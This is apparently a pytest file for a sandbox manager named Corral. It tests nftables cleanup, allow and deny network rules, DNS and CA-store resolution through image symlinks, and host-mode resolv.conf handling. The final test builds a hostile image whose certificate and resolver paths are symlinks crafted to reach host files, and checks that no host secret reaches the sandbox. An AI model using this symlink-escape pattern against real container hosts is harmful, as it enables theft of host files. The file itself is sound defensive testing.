def _init_pid(world: World, sid: str) -> int:
    return int((world.d.data_dir / "sandboxes" / sid / "run" / "pid").read_text())


def test_cleanup_leaves_no_veth_or_chain(world: World) -> None:
    from corral import Sandbox

    sb = Sandbox.create("base", network={"allow": []}, client=world.client)
    table = _table(world.d)
    rules = subprocess.run(["nft", "list", "table", "inet", table], capture_output=True, text=True).stdout
    host_if = "c" + table[7:10] + hashlib.sha256(sb.id.encode()).hexdigest()[:10]
    assert f"nat-{host_if}" in rules
    sb.kill()
    rules = subprocess.run(["nft", "list", "table", "inet", table], capture_output=True, text=True).stdout
    assert f"nat-{host_if}" not in rules
    assert subprocess.run(["ip", "link", "show", host_if], capture_output=True).returncode != 0



def test_cli_creates_a_networked_sandbox(world: World) -> None:
    cli = [sys.executable, "-m", "corral.cli.main"]
    p = subprocess.run([*cli, "sandbox", "create", "--allow", "allowed.test", "--allow", "198.18.0.10/32",
                        "--deny", "evil.test", "--secret", "gh"], capture_output=True, text=True, env=world.d.env,
                       timeout=120)
    assert p.returncode == 0, p.stderr
    sid = p.stdout.strip().splitlines()[-1]
    try:
        n = len(world.echo.seen)
        r = subprocess.run([*cli, "exec", sid, "--", "curl", "-sS", "--max-time", "8", "https://api.allowed.test/c"],
                           capture_output=True, text=True, env=world.d.env, timeout=120)
        assert r.returncode == 0, r.stderr
        world.outputs.append(r.stdout + r.stderr)
        assert world.seen_since(n)[0].headers.get("authorization") == f"Bearer {TOKEN}"
        r = subprocess.run([*cli, "network", sid], capture_output=True, text=True, env=world.d.env, timeout=60)
        shown = json.loads(r.stdout)
        assert shown["network"]["deny"] == ["evil.test"] and shown["secrets"] == ["gh"]
        bad = subprocess.run([*cli, "sandbox", "create", "--allow", "*"], capture_output=True, text=True,
                             env=world.d.env, timeout=60)
        assert bad.returncode == 2 and "allows everything" in bad.stderr
    finally:
        world.http.delete(f"/sandboxes/{sid}")


def test_busybox_image_without_resolv_conf_gets_corral_resolver(world: World) -> None:
    require("template-busybox")
    from corral import Sandbox
    from tests.conftest import _ensure_template

    _ensure_template(world.d, "busybox")
    sb = Sandbox.create("busybox", network=NETWORK, client=world.client)
    try:
        r = sb.commands.run(["sh", "-c", "cat /etc/resolv.conf; nslookup allowed.test; nslookup evil.test; "
                             "wget -q -O- http://allowed.test/bb; echo rc=$?"])
        out = r.stdout + r.stderr
        world.outputs.append(out)
        assert "nameserver 10.203.0." in out, out
        assert ALLOWED in out and EVIL not in out, out
        assert '"path": "/bb"' in out, out
    finally:
        sb.kill()


def test_resolver_and_ca_store_reached_through_links_in_the_image(world: World) -> None:
    """An image whose /etc/resolv.conf is systemd-resolved's stub link into /run and whose CA store is
    a Fedora-style chain of links: the sandbox's own resolution of those paths lands on Corral's files
    (read-only), so tools that ignore every variable still resolve through Corral and trust its CA."""
    from corral import Sandbox

    plain = Sandbox.create("base", client=world.client)
    try:
        r = plain.commands.run(["bash", "-ec", """
            rm /etc/resolv.conf; ln -s ../run/systemd/resolve/stub-resolv.conf /etc/resolv.conf
            mkdir -p /etc/pki/ca-trust/extracted/pem /etc/pki/tls/certs
            mv /etc/ssl/certs/ca-certificates.crt /etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem
            ln -s /etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem /etc/pki/tls/certs/ca-bundle.crt
            ln -s /etc/pki/tls/certs/ca-bundle.crt /etc/ssl/certs/ca-certificates.crt"""])
        assert r.exit_code == 0, r.stderr
        snap = plain.snapshot()
    finally:
        plain.kill()
    sb = Sandbox.create(from_snapshot=snap, network=NETWORK, client=world.client)
    try:
        _, out = world.sh("readlink /etc/resolv.conf; cat /etc/resolv.conf; getent hosts allowed.test; "
                          "getent hosts evil.test; echo evil-rc=$?", sb)
        assert out.startswith("../run/systemd/resolve/stub-resolv.conf\nnameserver 10.203.0."), out
        assert ALLOWED in out and "evil-rc=2" in out and EVIL not in out, out
        # The chain ends on Corral's bundle; curl with no CA variable trusts the proxy's upstream.
        _, out = world.sh("cmp /etc/ssl/certs/ca-certificates.crt /.corral/net/ca.pem && echo SAME; "
                          "echo x >> /etc/pki/ca-trust/extracted/pem/tls-ca-bundle.pem || echo RO", sb)
        assert "SAME" in out and "RO" in out, out
        code, body = world.curl("https://allowed.test/linked", "--noproxy", "*", sb=sb)
        assert code == 200 and '"path": "/linked"' in body, body
        _, out = world.sh("env -u CURL_CA_BUNDLE -u SSL_CERT_FILE -u REQUESTS_CA_BUNDLE -u HTTPS_PROXY "
                          "-u https_proxy curl -sS --max-time 8 https://allowed.test/novars", sb)
        assert '"path": "/novars"' in out, out
    finally:
        sb.kill()


def test_host_mode_with_a_systemd_resolved_link(world: World) -> None:
    """Host root mode on a host whose /etc/resolv.conf links into /run (systemd-resolved): the
    sandbox's /run is its own tmpfs, so Corral's resolv.conf is bound at the link's target there.
    The host's file is swapped for such a link (same content: the host keeps resolving) and put back."""
    from corral import Sandbox

    real = "/etc/resolv.conf"
    stub_dir = f"/run/corral-test-{uuid.uuid4().hex[:8]}"
    saved = f"{real}.corral-test-{uuid.uuid4().hex[:8]}"
    with open(real, "rb") as f:
        content = f.read()
    with open("/proc/self/mountinfo") as f:
        mounted = any(line.split()[4] == real for line in f)
    # A host that has the link already is tested as it is; so is one whose resolv.conf is a mount
    # (a container runtime's bind: it cannot be swapped, and its plain file is what gets bound).
    was_link = os.path.islink(real)
    swapped = not was_link and not mounted
    if swapped:
        os.makedirs(stub_dir)
        with open(f"{stub_dir}/stub-resolv.conf", "wb") as f:
            f.write(content)
        os.link(real, saved)
        os.symlink(f"{stub_dir}/stub-resolv.conf", f"{real}.new-{os.getpid()}")
        os.replace(f"{real}.new-{os.getpid()}", real)  # atomic: readers see one file or the other
    link = os.readlink(real) if os.path.islink(real) else None
    sb = None
    try:
        sb = Sandbox.create("base", root="host", allow_weaker_isolation=True, network=NETWORK, client=world.client)
        _, out = world.sh("readlink /etc/resolv.conf; cat /etc/resolv.conf; getent hosts allowed.test; "
                          "getent hosts evil.test; echo evil-rc=$?", sb)
        assert out.startswith(f"{link}\nnameserver 10.203.0." if link else "nameserver 10.203.0."), out
        assert ALLOWED in out and "evil-rc=2" in out and EVIL not in out, out
    finally:
        if sb is not None:
            sb.kill()
        if swapped:
            os.replace(saved, real)
            shutil.rmtree(stub_dir, ignore_errors=True)
    with open(real, "rb") as f:
        assert f.read() == content and os.path.islink(real) == was_link


def test_image_links_cannot_pull_host_files_into_the_sandbox(world: World, tmp_path: Any) -> None:
    """A hostile image (E-row "image as attacker"): its CA-store and resolver paths are links aimed
    at the host — an absolute link to a host directory behind a `..` after a missing name (a lexical
    resolver folds that into a real path and the host kernel follows the link), an absolute link
    (absolute means the image's own root), a relative climb past the root — and at Corral's own
    mounts. The daemon reads the image's CA roots and places the sandbox's files by those links: no
    byte of the host file may reach the sandbox, and the sandbox still boots and answers."""
    require("template-busybox")
    from corral import Sandbox
    from tests.conftest import TEMPLATE_CACHE, _ensure_template

    _ensure_template(world.d, "busybox")
    marker = "corral-host-secret-" + uuid.uuid4().hex
    host_dir = tmp_path / "hostdir"
    host_dir.mkdir()
    (host_dir / "secret.pem").write_text(f"-----BEGIN CERTIFICATE-----\n{marker}\n-----END CERTIFICATE-----\n")
    name = "zz-evil-" + uuid.uuid4().hex[:8]
    tdir = TEMPLATE_CACHE / name
    try:
        tdir.mkdir()
        subprocess.run(["cp", "-a", str(TEMPLATE_CACHE / "busybox" / "rootfs"), str(tdir / "rootfs")], check=True)
        root = tdir / "rootfs"
        (root / "h").symlink_to(host_dir)
        for p in ("etc/ssl/certs", "etc/pki/tls/certs"):
            (root / p).mkdir(parents=True, exist_ok=True)
        (root / "etc/ssl/certs/ca-certificates.crt").symlink_to("/nx/../h/secret.pem")
        (root / "etc/ssl/cert.pem").symlink_to(f"{host_dir}/secret.pem")
        (root / "etc/pki/tls/certs/ca-bundle.crt").symlink_to("../../../../../../../../.." + f"{host_dir}/secret.pem")
        with contextlib.suppress(FileNotFoundError):
            (root / "etc/resolv.conf").unlink()
        (root / "etc/resolv.conf").symlink_to("/.corral/agent/agent.py")
        meta = json.loads((TEMPLATE_CACHE / "busybox" / "meta.json").read_text())
        (tdir / "meta.json").write_text(json.dumps({**meta, "name": name, "rootfs": str(root)}))
        sb = Sandbox.create(name, network=NETWORK, client=world.client)
        try:
            r = sb.commands.run(["sh", "-c", "cat /.corral/net/ca.pem /etc/ssl/certs/ca-certificates.crt "
                                 "/etc/ssl/cert.pem /etc/pki/tls/certs/ca-bundle.crt 2>&1; grep -c def "
                                 "/.corral/agent/agent.py; grep -rl corral-host-secret /etc /.corral/net /h /nx /tmp /root 2>/dev/null; echo END"])
            out = r.stdout + r.stderr
            world.outputs.append(out)
            assert marker not in out and "END" in out, out
            assert "BEGIN CERTIFICATE" in out  # Corral's CA is there: the bundle was written
            assert int(out.split("\n")[-3]) > 10, out  # the agent's own file is the agent, not a resolv.conf
            assert sb.commands.run("echo alive").stdout == "alive\n"
        finally:
            sb.kill()
        net_dir = world.d.data_dir / "sandboxes" / sb.id / "net"
        assert not net_dir.exists() or marker.encode() not in (net_dir / "ca.pem").read_bytes()
    finally:
        shutil.rmtree(tdir, ignore_errors=True)
    assert marker in (host_dir / "secret.pem").read_text()  # (the host file was there to be stolen)
